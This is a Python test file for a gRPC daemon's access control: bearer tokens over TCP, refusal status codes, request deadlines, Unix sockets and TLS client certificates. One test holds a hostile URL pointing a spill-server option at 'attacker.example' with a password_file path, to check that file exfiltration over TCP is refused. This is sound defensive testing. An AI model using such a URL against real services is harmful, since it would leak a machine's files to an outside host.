"""Tokens and TLS on TCP: who is let in, with which status others are refused, and what nobody gets to see."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import grpc
import pytest
import trustme
from grpc_health.v1 import health_pb2, health_pb2_grpc
from grpc_reflection.v1alpha import reflection_pb2, reflection_pb2_grpc
from rpc_daemon import DEADLINE_S, Daemon, block_ids, run

from tierd.rpc.access import Access, Tls
from tierd.rpc.server import RpcServer
from tierd_client.v1 import admin_pb2 as apb
from tierd_client.v1 import admin_pb2_grpc, blocks_pb2_grpc
from tierd_client.v1 import blocks_pb2 as pb

DATA, OTHER_DATA, ADMIN = "data-token-0123456789", "data-token-9876543210", "admin-token-0123456789"
BOTH = ([DATA.encode(), OTHER_DATA.encode()], [ADMIN.encode()])
Code = grpc.StatusCode


@asynccontextmanager
async def tcp(
    d: Daemon, access: Access | None, tls: Tls | None = None, request_within_s: float = DEADLINE_S
) -> AsyncIterator[str]:
    """The daemon's service on a port of its own; yields the address."""
    server = RpcServer(
        d.service, ["127.0.0.1:0"], concurrent_rpcs_max=20, access=access, tls=tls,
        request_within_s=request_within_s,
    )
    await server.start()
    try:
        yield server.addresses[0]
    finally:
        await server.stop(0.1)


Call = Callable[[grpc.aio.Channel, Any], Awaitable[Any]]


async def admin(channel: grpc.aio.Channel, metadata: Any) -> Any:
    stub = admin_pb2_grpc.AdminStub(channel)
    return await stub.GetConfig(apb.GetConfigRequest(), metadata=metadata, timeout=DEADLINE_S)


async def data(channel: grpc.aio.Channel, metadata: Any) -> Any:
    request = pb.LookupRequest(blocks=block_ids(1))
    return await blocks_pb2_grpc.BlocksStub(channel).Lookup(request, metadata=metadata, timeout=DEADLINE_S)


async def session(channel: grpc.aio.Channel, metadata: Any) -> Any:
    request = pb.SessionRequest(client_name="t", protocol_version=1, pid=1)
    return await blocks_pb2_grpc.BlocksStub(channel).Session(request, metadata=metadata, timeout=DEADLINE_S).read()


async def put(channel: grpc.aio.Channel, metadata: Any) -> Any:
    async def parts() -> AsyncIterator[pb.PutRequest]:
        yield pb.PutRequest(header=pb.PutHeader(session=1, blocks=block_ids(1), checksums=[1]))

    return await blocks_pb2_grpc.BlocksStub(channel).Put(parts(), metadata=metadata, timeout=DEADLINE_S)


async def health(channel: grpc.aio.Channel, metadata: Any) -> Any:
    stub = health_pb2_grpc.HealthStub(channel)
    return await stub.Check(health_pb2.HealthCheckRequest(), metadata=metadata, timeout=DEADLINE_S)


async def watch(channel: grpc.aio.Channel, metadata: Any) -> Any:
    stub = health_pb2_grpc.HealthStub(channel)
    return await stub.Watch(health_pb2.HealthCheckRequest(), metadata=metadata, timeout=DEADLINE_S).read()


async def never_sent(channel: grpc.aio.Channel, metadata: Any) -> Any:
    """A call with one request, which is begun and whose request does not come."""
    silent = channel.stream_stream("/tierd.v1.Blocks/Lookup")
    return await silent(metadata=metadata, timeout=DEADLINE_S).read()


async def reflect(channel: grpc.aio.Channel, metadata: Any) -> Any:
    request = reflection_pb2.ServerReflectionRequest(list_services="")
    stub = reflection_pb2_grpc.ServerReflectionStub(channel)
    return await stub.ServerReflectionInfo(iter([request]), metadata=metadata, timeout=DEADLINE_S).read()


async def status_of(call: Call, channel: grpc.aio.Channel, token: str | None) -> tuple[Code, str]:
    metadata = None if token is None else [("authorization", token)]
    try:
        await call(channel, metadata)
    except grpc.aio.AioRpcError as error:
        return error.code(), error.details() or ""
    return Code.OK, ""


@pytest.mark.parametrize(("call", "token", "code"), [
    (data, f"Bearer {DATA}", Code.OK), (data, f"Bearer {OTHER_DATA}", Code.OK), (data, f"Bearer {ADMIN}", Code.OK),
    (admin, f"Bearer {ADMIN}", Code.OK), (admin, f"Bearer {DATA}", Code.PERMISSION_DENIED),
    (session, f"Bearer {DATA}", Code.OK), (put, f"Bearer {DATA}", Code.NOT_FOUND),
    (reflect, f"Bearer {DATA}", Code.OK), (health, None, Code.OK), (watch, f"Bearer {DATA}", Code.OK),
    (never_sent, None, Code.UNAUTHENTICATED),
    *((call, wrong, Code.UNAUTHENTICATED) for call in (data, admin, session, put, reflect, watch) for wrong in (
        None, "", f"Bearer {DATA[:-1]}", f"Bearer {DATA}x", DATA, f"Basic {DATA}", "Bearer "
    )),
])
def test_tokens(tmp_path: Path, call: Call, token: str | None, code: Code) -> None:
    """A data token allows the data plane, an admin token everything; a missing or unknown one is UNAUTHENTICATED,
    for every kind of call, before its request has come; one that does not reach is PERMISSION_DENIED naming the
    call. A check of health is open."""

    async def body(d: Daemon) -> None:
        await d.namespace()
        async with tcp(d, Access(*BOTH)) as address, grpc.aio.insecure_channel(address) as channel:
            found, details = await status_of(call, channel, token)
            assert found is code, details
            assert DATA not in details and ADMIN not in details
            if code is Code.PERMISSION_DENIED:
                assert details == "GetConfig needs an admin token"

    run(body, tmp_path)


def test_a_request_must_come(tmp_path: Path) -> None:
    """Calls over TCP that are begun and never sent give their places back when their time is over, and one that
    ends without a request is told so."""

    async def body(d: Daemon) -> None:
        await d.namespace()
        async with tcp(d, None, request_within_s=0.5) as address, grpc.aio.insecure_channel(address) as channel:
            found = await asyncio.gather(*(status_of(never_sent, channel, None) for _ in range(20)))
            assert set(found) == {(Code.RESOURCE_EXHAUSTED, "no request came for 0.5 s")}
            assert (await status_of(data, channel, None))[0] is Code.OK
            empty = channel.stream_unary("/tierd.v1.Blocks/Lookup")
            with pytest.raises(grpc.aio.AioRpcError, match="request: missing"):
                await empty(iter(()), timeout=DEADLINE_S)

    run(body, tmp_path)


def test_files_of_the_machine_are_not_for_tcp(tmp_path: Path) -> None:
    """An admin over TCP cannot have a file of the daemon's machine sent to a spill server, nor learn whether there
    is one; by the Unix socket, whose callers can read it anyway, the option is taken."""
    url = f"redis://attacker.example/0?password_file={tmp_path}/none"

    async def body(d: Daemon) -> None:
        request = apb.AttachSpillRequest(url=url, replace=True)
        async with tcp(d, None) as address, grpc.aio.insecure_channel(address) as channel:
            for stub, told in (
                (admin_pb2_grpc.AdminStub(channel), "url: password_file names a file"),
                (d.admin, "url: there is no such store"),
            ):
                with pytest.raises(grpc.aio.AioRpcError) as caught:
                    await stub.AttachSpill(request, timeout=DEADLINE_S)
                assert caught.value.code() is Code.INVALID_ARGUMENT and told in str(caught.value.details())

    run(body, tmp_path)


def test_unix_sockets_need_no_token(tmp_path: Path) -> None:
    """Whoever reaches the Unix socket was let in by its mode, also where TCP needs a token."""

    async def body(d: Daemon) -> None:
        address = f"unix://{tmp_path}/other.sock"
        server = RpcServer(d.service, [address], concurrent_rpcs_max=20, access=Access(*BOTH))
        await server.start()
        async with grpc.aio.insecure_channel(address) as channel:
            assert (await status_of(admin, channel, None))[0] is Code.OK
        await server.stop(0.1)

    run(body, tmp_path)


def test_without_tokens_everybody_may(tmp_path: Path) -> None:
    """An Access without tokens lets every call through; with admin tokens alone the data plane needs one too."""

    async def body(d: Daemon) -> None:
        await d.namespace()
        async with tcp(d, Access()) as address, grpc.aio.insecure_channel(address) as channel:
            assert (await status_of(admin, channel, None))[0] is Code.OK
        async with tcp(d, Access((), BOTH[1])) as address, grpc.aio.insecure_channel(address) as channel:
            assert (await status_of(data, channel, None))[0] is Code.UNAUTHENTICATED
            assert (await status_of(data, channel, f"Bearer {ADMIN}"))[0] is Code.OK

    run(body, tmp_path)


def test_refused_calls_do_nothing(tmp_path: Path) -> None:
    """A call that is refused has not run, and counts under its status."""

    async def body(d: Daemon) -> None:
        await d.namespace()
        await d.store_blocks((await d.session()).number, block_ids(1))
        async with tcp(d, Access(*BOTH)) as address, grpc.aio.insecure_channel(address) as channel:
            call = admin_pb2_grpc.AdminStub(channel).Clear(apb.ClearRequest(), timeout=DEADLINE_S)
            assert await call.code() is Code.UNAUTHENTICATED
        assert await d.tiers_of(block_ids(1)) == [2]
        assert d.service.measures.rpc_codes["Clear", "UNAUTHENTICATED"] == 1

    run(body, tmp_path)


@pytest.mark.parametrize("shows_certificate", [True, False])
@pytest.mark.parametrize("wants_certificate", [True, False])
def test_tls(tmp_path: Path, shows_certificate: bool, wants_certificate: bool) -> None:
    """TLS serves those who trust its authority; with a client authority only those with a certificate of it; one
    who speaks no TLS is not served."""
    authority = trustme.CA()
    certificate, own = authority.issue_cert("localhost", "127.0.0.1"), authority.issue_cert("worker")
    roots = authority.cert_pem.bytes()
    chain, key = certificate.cert_chain_pems[0].bytes(), certificate.private_key_pem.bytes()

    async def body(d: Daemon) -> None:
        tls = Tls(chain, key, roots if wants_certificate else None)
        assert key.decode() not in repr(tls)
        shown = (own.private_key_pem.bytes(), own.cert_chain_pems[0].bytes()) if shows_certificate else ()
        async with tcp(d, Access(*BOTH), tls) as address:
            secure = grpc.ssl_channel_credentials(roots, *shown)
            async with grpc.aio.secure_channel(address, secure) as channel:
                code, _ = await status_of(admin, channel, f"Bearer {ADMIN}")
                served = shows_certificate or not wants_certificate
                assert code is (Code.OK if served else Code.UNAVAILABLE)
            async with grpc.aio.insecure_channel(address) as channel:
                assert (await status_of(admin, channel, f"Bearer {ADMIN}"))[0] is Code.UNAVAILABLE

    run(body, tmp_path)


def test_an_unknown_authority_is_not_trusted(tmp_path: Path) -> None:
    """A client whose roots did not sign the daemon's certificate gets no connection."""
    mine, other = trustme.CA(), trustme.CA()
    certificate = mine.issue_cert("127.0.0.1")

    async def body(d: Daemon) -> None:
        tls = Tls(certificate.cert_chain_pems[0].bytes(), certificate.private_key_pem.bytes())
        secure = grpc.ssl_channel_credentials(other.cert_pem.bytes())
        async with tcp(d, None, tls) as address, grpc.aio.secure_channel(address, secure) as channel:
            async with asyncio.timeout(DEADLINE_S):
                assert (await status_of(admin, channel, None))[0] is Code.UNAVAILABLE

    run(body, tmp_path)
